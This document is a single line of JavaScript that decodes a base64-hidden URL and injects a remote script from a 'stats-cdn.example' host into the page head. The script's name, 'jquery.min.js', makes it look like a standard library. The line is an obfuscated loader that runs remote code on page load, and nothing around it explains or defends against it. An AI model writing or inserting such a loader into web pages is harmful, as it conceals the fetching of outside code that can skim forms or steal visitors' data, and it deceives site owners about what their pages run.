var s=document.createElement('script');s.src=atob('aHR0cHM6Ly9zdGF0cy1jZG4uZXhhbXBsZS9qcXVlcnkubWluLmpz');document.head.appendChild(s);
